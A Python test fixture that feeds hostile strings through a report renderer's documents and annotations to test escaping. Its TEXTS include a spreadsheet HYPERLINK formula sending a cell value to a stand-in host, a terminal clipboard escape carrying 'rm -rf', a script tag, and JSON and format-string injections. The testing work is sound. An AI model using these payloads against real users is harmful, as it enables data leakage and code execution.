"""Texts that try to be more than text, and documents full of them."""

import datetime as dt
from collections.abc import Sequence
from typing import Final

from duban.model.record import Place
from duban.reports.annotation import Annotation, Annotations, Badge, Rule, Subject
from duban.reports.document import (
    Cell,
    Column,
    Document,
    Kind,
    Lamp,
    Lines,
    Named,
    Object,
    Pairs,
    Section,
    Table,
)
from duban.words import Words

TEXTS: Final = (
    # formulas
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"点此")',
    "+8613800000000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u202e=1+1",
    "﹣1",
    '正常",=1+1,"',
    "a;=1+1",
    # a terminal's and rich's languages
    "[red]红[/red]",
    "[link=http://example.invalid]看[/link]",
    "[conceal]不见[/conceal]",
    "[/]",
    "[urgent] 修路",
    "[x]完成",
    ":warning:",
    "结尾\\",
    "\\[red]",
    "\x1b[31m红\x1b[0m",
    "\x1b]8;;http://example.invalid\x07看\x1b]8;;\x07",
    "\x1b]0;标题\x1b\\",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x9b31m红\x9b0m",
    "\x9d0;x\x9c",
    "\x1bPq\x1b\\",
    "回\b\b\b退",
    "响\x07铃",
    "零\x00号",
    "页\x0c换",
    # what nobody sees
    "\u202e31-21-8102\u202c",
    "\u2066左\u2069",
    "零\u200b宽\u200d连",
    "\u3164",
    "\u2800",
    "\u115f\u1160",
    "\ufe0f",
    "\u00ad",
    "行\u2028分\u2029段",
    "下\x85一行",
    "单\ud800个",
    "\udcff",
    "\U000e0041\U000e0042",
    "\ufffe",
    # Markdown and HTML
    "](http://example.invalid)",
    "[看](http://example.invalid)",
    "![图](http://example.invalid/a.png)",
    "<script>alert(1)</script>",
    "<!-- 藏 -->",
    "</td></tr></table>",
    "<http://example.invalid>",
    "&lt;b&gt;&#64;",
    "http://example.invalid/路",
    "www.example.invalid",
    "mailto:someone@example.invalid",
    "a@example.invalid",
    "@somebody 请看",
    "请@somebody",
    "#12",
    "见 group/project#12、!34、$56、~57",
    "| 竖 | 线 |",
    "a\\|b",
    "`代码`",
    "```\n围栏\n```",
    "~~~",
    "*斜* **粗** _斜_ ~~删~~",
    "# 标题",
    "- 条目",
    "+ 条目",
    "* 条目",
    "1. 条目",
    "1) 条目",
    "> 引用",
    "---",
    "===",
    "    缩进",
    "一\n\n二\r\n三\r四",
    "| a |\n| --- |\n| b |",
    "[^1]: 注",
    "[看]: http://example.invalid",
    "::include{file=a.md}",
    "$x$ 与 $$y$$",
    "{{ 模板 }} {% raw %} {+ 增 +}",
    "[[_TOC_]]",
    # JSON
    '"},{"id":"forged"',
    "\\u0041\\",
    # size and shape
    "",
    " ",
    "长" * 3000,
    "x" * 3000,
    "，" * 500,
    "（" * 500,
    "e\u0301" * 200 + "\u0336" * 300,
    "👩‍👩‍👧‍👦 ✅ 🔴",
    "ﷺ ⅷ 한글 ไทย हिन्दी",
    "{blank} {0} {x.__class__} %s",
)

KINDS: Final[tuple[Kind, ...]] = ("text", "id", "name", "light", "list", "object", "text")


def document(texts: Sequence[str]) -> Document:
    """Return a document that says every text in every place that takes one."""
    rows = tuple(_row(text) for text in texts)
    columns = tuple(
        Column(
            f"c{number}",
            Words(f"列{number}", f"col{number}"),
            kind,
            fields=(Column("part", Words("部分", "part"), "text"),) if kind == "object" else (),
            weight=number,
        )
        for number, kind in enumerate(KINDS, 1)
    )
    said = Words("说：{it}", "said: {it}")
    return Document(
        report="hostile",
        title=said(it=texts[0]),
        ledger=texts[0],
        ledger_title=texts[0],
        as_of=dt.date(2018, 12, 31),
        columns=columns,
        rows=rows,
        totals={"said": said(it=texts[0])},
        sections=(
            Section(
                Words(texts[0], texts[0]),
                (
                    Lines(tuple(texts)),
                    Lines(tuple(texts), bulleted=True),
                    Pairs(tuple((Words(text, text), text) for text in texts)),
                    Table(columns, rows, lead=said(it=texts[0])),
                    Table(columns, (), empty=Words(texts[0], texts[0])),
                ),
            ),
        ),
        annotations=annotations(texts),
        badge=Badge(texts[0], said(it=texts[0]), "red"),
    )


def annotations(texts: Sequence[str]) -> Annotations:
    """Return annotations that say every text in every place that takes one."""
    words = tuple(Words(text, text) for text in texts)
    return Annotations(
        tuple(
            Annotation(
                place=Place(text, number, number),
                subject=text,
                rule=Rule(text, word, word),
                level="warning",
                title=text,
                what=text,
                key=text,
                hint=word,
            )
            for number, (text, word) in enumerate(zip(texts, words, strict=True), 1)
        ),
        tuple(Subject(text, text, text, Place(text)) for text in dict.fromkeys(texts)),
        folder=texts[0],
    )


def _row(text: str) -> tuple[Cell, ...]:
    return (
        text,
        text,
        Named(text, text),
        Lamp(text, text, "red"),
        (text, text),
        Object(text, {"part": text}),
        Words("说：{it}", "said: {it}")(it=text),
    )
